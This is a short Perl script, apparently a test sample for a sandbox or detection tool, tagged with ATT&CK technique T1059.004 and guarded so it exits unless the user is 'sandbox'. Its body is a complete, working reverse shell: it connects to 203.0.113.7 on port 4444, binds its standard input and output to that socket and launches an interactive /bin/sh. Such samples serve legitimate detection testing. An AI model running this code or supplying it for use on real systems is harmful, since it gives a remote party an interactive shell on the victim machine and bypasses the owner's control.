# technique: T1059.004
# needs: perl
# net: sink
die "only for the inside of a sandbox: shieldx run\n" if $ENV{USER} ne "sandbox";

use Socket;
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp")) or exit 0;
connect(S, sockaddr_in(4444, inet_aton("203.0.113.7"))) or exit 0;
open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
exec("/bin/sh -i");
